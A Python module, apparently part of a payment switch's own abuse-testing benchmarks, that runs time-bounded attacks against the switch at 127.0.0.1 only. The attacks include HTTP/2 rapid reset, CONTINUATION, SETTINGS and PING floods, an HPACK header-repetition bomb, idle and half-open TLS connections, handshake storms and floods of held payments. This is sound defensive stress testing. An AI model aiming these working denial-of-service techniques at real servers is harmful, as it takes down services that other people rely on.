"""What one centre's, or one biller's, certificate can be made to do to the switch.

    python -m benchmarks.attacks NAME --address A --tls DIRECTORY --seconds S

Run by `benchmarks.abuse`, niced. Each attack ends by itself, has bounds, and tells as
JSON how many connections it made, how many of them were ended by the other side, and
how long the first of these lasted.
"""

import argparse
import json
import os
import socket
import ssl
import struct
import threading
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import numpy as np
import numpy.typing as npt

from benchmarks import _client
from benchmarks._client import CheckError
from benchmarks.attacker import AGAIN_S, ATTACKER, Attack
from benchmarks.attacks_at_door import AT_DOOR, LOOKS, SOURCE
from benchmarks.attacks_by_reading import BY_READING
from benchmarks.client_process import METHODS
from benchmarks.messages import Maker, centre_code, places, service_code
from benchmarks.raw_peer import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_DEFAULT,
    EndedError,
    RawPeer,
    call_headers,
    context_of,
    dial,
    frame,
    literal,
    message,
)
from switch.v1 import billers_pb2, counter_pb2, payments_pb2

POOR = 2
"""A centre without money."""
HELD_SERVICE = 96
"""Its biller confirms, and is not there."""
STREAM, FETCH = METHODS["stream"], "/payswitch.v1.CounterService/FetchBill"
WATCH = "/payswitch.v1.PaymentService/WatchPayment"
FEED = "/payswitch.v1.BillerService/FollowFeed"
STREAMS, UNFINISHED = 100, 400
UNFINISHED_BYTES = 4 << 20
IDLE, HALF_OPEN, STORM = 500, 1_000, 3_561
DIALLERS = 32
FEEDS, WATCHES, A_CONNECTION = 2_000, 20_000, 500
METADATA_BYTES = 15_000
BOMB = 4_000
"""References to a header field of as many bytes."""
FLOOD_BYTES = 1 << 18
"""Of frames made beforehand, sent again and again."""


# --- frames without an end -----------------------------------------------------------


def flood(attack: Attack, make: Callable[[int], bytes], opens: str = "") -> None:
    """Send what `make` gives for each round, as fast as it goes; read nothing."""

    def body(peer: RawPeer) -> None:
        if opens:
            peer.send(frame(HEADERS, END_HEADERS, 1, call_headers(opens)))
        turn = 0
        while attack.goes_on:
            content = make(turn)
            # Offered: who is thrown out at once gets no block through.
            attack.sent += len(content)
            # It never reads: what ends it is that the other side closes.
            peer.send(content, limit_s=max(attack.end_s - time.monotonic(), 0.1))
            turn += 1

    attack.again(body, WINDOW_DEFAULT)


def same(one: bytes) -> Callable[[int], bytes]:
    """A block of the same bytes, for each round."""
    block = one * (FLOOD_BYTES // len(one))
    return lambda _: block


def settings(attack: Attack) -> None:
    """SETTINGS, each of which wants an answer."""
    flood(attack, same(frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64")))


def ping(attack: Attack) -> None:
    """PING, likewise."""
    flood(attack, same(frame(PING, 0, 0, bytes(8))))


def empty_data(attack: Attack) -> None:
    """A stream of frames without a byte."""
    flood(attack, same(frame(DATA, 0, 1)), STREAM)


def continuation(attack: Attack) -> None:
    """Headers without an end."""
    part = frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100))
    first = frame(HEADERS, 0, 1, call_headers(STREAM))
    block = same(part)(0)
    flood(attack, lambda turn: block if turn else first + block)


def rapid_reset(attack: Attack) -> None:
    """Calls that are broken off at once."""
    headers = call_headers(METHODS["unary"])

    def make(turn: int) -> bytes:
        first = 1 + 2_000 * turn
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, headers)
            + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
            for stream in range(first, first + 2_000, 2)
        )

    flood(attack, make)


def metadata(attack: Attack) -> None:
    """Calls with as much metadata as there may be, and with a field in many pieces."""
    large = call_headers(METHODS["unary"], [(b"x-long", b"x" * METADATA_BYTES)])
    pieces = [(b"payswitch-session-bin", b"," * METADATA_BYTES)]
    several = call_headers(METHODS["unary"], pieces)

    def make(turn: int) -> bytes:
        stream = 1 + 4 * turn
        return frame(HEADERS, END_HEADERS, stream, large) + frame(
            HEADERS, END_HEADERS, stream + 2, several
        )

    flood(attack, make)


def said_again(attack: Attack) -> None:
    """Headers of few bytes that say a long field again and again."""
    # 62 is the newest entry of the table, which a literal put there.
    bomb = b"\x40" + literal(b"x", b"y" * 4_000)[1:] + b"\xbe" * BOMB
    block = call_headers(METHODS["unary"]) + bomb
    flood(
        attack,
        lambda turn: frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * turn, block),
    )


def unread_refusals(attack: Attack) -> None:
    """Calls that are refused at their headers, whose answers nobody reads."""
    block = call_headers(METHODS["unary"], [(b"grpc-timeout", b"none")])

    def make(turn: int) -> bytes:
        first = 1 + 2_000 * turn
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, block)
            for stream in range(first, first + 2_000, 2)
        )

    flood(attack, make)


def key_updates(attack: Attack) -> None:
    """New keys without an end, each of which costs the other side some too."""
    while attack.goes_on:
        began_s = time.monotonic()
        left_ns = round((attack.end_s - began_s) * 1e9)
        try:
            sent, was_ended = _client.update_keys(
                attack.address, attack.credentials(), _client.now_ns() + left_ns
            )
        except CheckError:
            attack.refused += 1
            time.sleep(AGAIN_S)
            continue
        attack.connections += 1
        attack.sent += sent
        if was_ended:
            attack.note_end(began_s)


# --- what is begun and not ended -----------------------------------------------------


def unread(attack: Attack) -> None:
    """Streams that pay, whose answers are never taken: their windows are shut."""
    maker = OwnMaker(100)

    def body(peer: RawPeer) -> None:
        pending = {peer.call(STREAM): b"" for _ in range(STREAMS)}
        while attack.goes_on:
            peer.pump()
            moved = 0
            for stream, content in pending.items():
                left = content or bytes(maker.take(1))
                size = peer.data(stream, left)
                pending[stream] = left[size:]
                moved += size
            attack.sent += moved
            if not moved:
                time.sleep(0.001)

    attack.again(body, 0)


def unfinished(attack: Attack) -> None:
    """Long messages, of which a byte is always missing."""
    head = b"\0" + UNFINISHED_BYTES.to_bytes(4, "big")
    content = head + bytes(UNFINISHED_BYTES - 1)

    def body(peer: RawPeer) -> None:
        streams = [peer.call(METHODS["batch"]) for _ in range(UNFINISHED)]
        left = dict.fromkeys(streams, 0)
        while attack.goes_on:
            peer.pump()
            moved = 0
            for stream, at in left.items():
                # Slices of the one content: nothing is kept for each.
                size = peer.data(stream, content[at : at + 16_384])
                left[stream] = at + size
                moved += size
            attack.sent += moved
            if not moved:
                time.sleep(0.001)

    attack.again(body, WINDOW_DEFAULT)


def hold_open(attack: Attack, sockets: list[socket.socket]) -> None:
    """Keep sockets until the time has passed; count those that were closed."""
    began_s = time.monotonic()
    for one in sockets:
        one.setblocking(False)
    while attack.goes_on and sockets:
        time.sleep(0.1)
        for one in list(sockets):
            try:
                # What the server said first is read, and then its silence.
                is_ended = not one.recv(1 << 16)
            except (BlockingIOError, ssl.SSLWantReadError):
                continue
            except OSError:
                is_ended = True
            if is_ended:
                attack.note_end(began_s)
                sockets.remove(one)
                one.close()
    for one in sockets:
        one.close()


def idle(attack: Attack) -> None:
    """Connections that say nothing: before, within and after the handshake."""
    context = context_of(attack.credentials())
    sockets: list[socket.socket] = []
    for number in range(HALF_OPEN + IDLE):
        if not attack.goes_on:
            break
        try:
            plain = dial(attack.address)
            if number % 3 == 0:
                plain.sendall(b"\x16\x03\x01\x02\x00\x01")
            if number % 3 == 1:
                plain = context.wrap_socket(plain, server_hostname="127.0.0.1")
            sockets.append(plain)
            attack.connections += 1
        except OSError:
            attack.refused += 1
    hold_open(attack, sockets)


def storm(attack: Attack) -> None:
    """All centres shake hands at once, as after a restart."""
    began_s = time.monotonic()
    lock = threading.Lock()
    silent: list[_client.Silent] = []

    def dial_one(number: int) -> None:
        if not attack.goes_on:
            return
        try:
            one = _client.Silent(attack.address, attack.credentials(number))
        except CheckError:
            with lock:
                attack.refused += 1
            return
        with lock:
            silent.append(one)

    with ThreadPoolExecutor(DIALLERS) as pool:
        list(pool.map(dial_one, range(STORM)))
    attack.connections = attack.sent = len(silent)
    while attack.goes_on:
        time.sleep(0.1)
    for one in silent:
        if one.is_ended:
            attack.note_end(began_s)


def handshakes(attack: Attack) -> None:
    """Connections without a word, broken off at once, from an address of its own."""
    host, _, port = attack.address.rpartition(":")
    reset = struct.pack("ii", 1, 0)
    while attack.goes_on:
        try:
            one = socket.create_connection((host, int(port)), 1.0, (SOURCE, 0))
        except OSError:
            attack.refused += 1
            continue
        # No waiting afterwards: ports would run out.
        one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, reset)
        one.close()
        attack.sent += 1
    attack.connections = attack.sent


def many_streams(
    attack: Attack, name: str, path: str, request: bytes, count: int
) -> None:
    """So many calls that are never over, on few connections; all is read."""
    context = context_of(attack.named(name))
    peers: list[RawPeer] = []
    began_s = time.monotonic()
    content = message(request)
    opened = 0
    while attack.goes_on:
        if opened < count:
            try:
                peer = RawPeer(attack.address, context, 1 << 24)
                attack.connections += 1
                peers.append(peer)
                for _ in range(min(A_CONNECTION, count - opened)):
                    stream = peer.call(path)
                    peer.data(stream, content, last=True)
                    opened += 1
                    attack.sent += 1
            except EndedError:
                attack.refused += 1
                opened += A_CONNECTION
        else:
            time.sleep(0.02)
        for peer in list(peers):
            try:
                peer.pump()
            except EndedError:
                attack.note_end(began_s)
                peers.remove(peer)
    for peer in peers:
        for kind, seen in peer.seen.items():
            attack.answers[str(kind)] = attack.answers.get(str(kind), 0) + seen
        peer.close()


def feeds(attack: Attack) -> None:
    """Feeds of one biller."""
    request = billers_pb2.FollowFeedRequest().SerializeToString()
    many_streams(attack, "biller-biller-1", FEED, request, FEEDS)


def watches(attack: Attack) -> None:
    """Watches of one payment that nobody answers."""
    maker = OwnMaker(1, service=HELD_SERVICE, paisa=True)
    one = maker.take(1)
    client = attack_client(attack, "unary", maker, 1, 1)
    client.supply(one)
    client.end(_client.now_ns() + 1)
    client.run(_client.now_ns() + 5_000_000_000)
    identity = bytes(one[5 + 4 : 5 + 20])
    request = payments_pb2.WatchPaymentRequest(id=identity).SerializeToString()
    name = f"centre-{centre_code(ATTACKER)}"
    many_streams(attack, name, WATCH, request, WATCHES)


def fetches(attack: Attack) -> None:
    """Questions to a biller that is not there, each a call that waits."""
    request = counter_pb2.FetchBillRequest(
        service=service_code(HELD_SERVICE), reference="000000000000001"
    ).SerializeToString()
    name = f"centre-{centre_code(ATTACKER)}"
    many_streams(attack, name, FETCH, request, WATCHES)


# --- what is allowed, too often ------------------------------------------------------


def reads(attack: Attack) -> None:
    """Looks for payments that are not there, the next as soon as one is answered."""
    wanted = payments_pb2.GetPaymentRequest(id=os.urandom(16))
    content = message(wanted.SerializeToString())

    def body(peer: RawPeer) -> None:
        while attack.goes_on:
            peer.pump()
            # An answer is headers alone, whether it was looked for or refused.
            room = LOOKS - peer.next_stream // 2 + peer.seen.get(HEADERS, 0)
            for _ in range(room):
                peer.data(peer.call(METHODS["get"]), content, last=True)
            attack.sent += room
            if not room:
                time.sleep(0.000_5)

    attack.again(body, WINDOW_DEFAULT)


class OwnMaker(Maker):
    """Payments of one centre, of any service or of one."""

    def __init__(
        self,
        payload: int,
        *,
        centre: int = ATTACKER,
        service: int | None = None,
        paisa: bool = False,
        first: int = 1,
    ) -> None:
        """`paisa`: each of one paisa, which takes three bytes nevertheless."""
        super().__init__(payload, "random", seed=os.getpid(), first=first)
        self._own = centre_code(centre).encode()
        self._service = None if service is None else service_code(service).encode()
        self._paisa = paisa
        self.is_held = service == HELD_SERVICE

    def _payments(self, count: int) -> npt.NDArray[np.void]:
        rows = super()._payments(count)
        rows["centre"] = self._own
        if self._service is not None:
            rows["service"] = self._service
        else:
            is_held = rows["service"] == service_code(HELD_SERVICE).encode()
            rows["service"][is_held] = service_code(0).encode()
        if self._paisa:
            rows["amount"] = (0x81, 0x80, 0)
        return rows


def attack_client(
    attack: Attack, mode: str, maker: OwnMaker, outstanding: int, centre: int
) -> _client.Client:
    """A client that takes no offence at refusals."""
    return _client.Client(
        attack.address,
        attack.credentials(centre),
        METHODS[mode],
        connections=1,
        outstanding=outstanding,
        payload=maker.payload,
        is_held=maker.is_held,
        **places(maker.layout),
    )


def pay_much(attack: Attack, maker: OwnMaker, outstanding: int, centre: int) -> None:
    """Batches in a closed loop, for as long as it is let."""
    while attack.goes_on:
        began_s = time.monotonic()
        try:
            client = attack_client(attack, "batch", maker, outstanding, centre)
        except CheckError:
            attack.refused += 1
            time.sleep(AGAIN_S)
            continue
        attack.connections += 1
        try:
            while attack.goes_on:
                if client.run(_client.now_ns() + 50_000_000) == _client.EMPTY:
                    client.supply(maker.take(1 << 30))
        except CheckError as error:
            if "held or is not" in str(error):
                raise
            attack.note_end(began_s)
        attack.sent += client.counts()["payments"]
        for kind, counts in (("r", client.refused()), ("s", client.statuses())):
            for code, count in counts.items():
                name = f"{kind}{code}"
                attack.answers[name] = attack.answers.get(name, 0) + count


def batches(attack: Attack) -> None:
    """Batches of 8,190 payments."""
    pay_much(attack, OwnMaker(8_190), 4, ATTACKER)


def refusals(attack: Attack) -> None:
    """Batches of payments without the money for one."""
    pay_much(attack, OwnMaker(8_190, centre=POOR), 4, POOR)


def holds(attack: Attack) -> None:
    """One paisa each, reserved for a biller that is not there."""
    pay_much(attack, OwnMaker(1_000, service=HELD_SERVICE, paisa=True), 8, ATTACKER)


ATTACKS: dict[str, Callable[[Attack], None]] = {
    one.__name__: one
    for one in (
        *(unread, unfinished, idle, storm, handshakes, key_updates, rapid_reset),
        *(continuation, settings, ping, empty_data, metadata, said_again),
        *(unread_refusals, batches, refusals),
        *(feeds, watches, fetches, reads, holds),
        *AT_DOOR,
        *BY_READING,
    )
}


def main() -> None:
    """Attack once; say what came of it."""
    parser = argparse.ArgumentParser()
    parser.add_argument("name", choices=sorted(ATTACKS))
    parser.add_argument("--address", required=True)
    parser.add_argument("--tls", type=Path, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    options = parser.parse_args()
    if options.address.rpartition(":")[0] != "127.0.0.1":
        parser.error("against this machine only")
    attack = Attack(options)
    ATTACKS[options.name](attack)
    print(json.dumps(attack.said()))


if __name__ == "__main__":
    main()
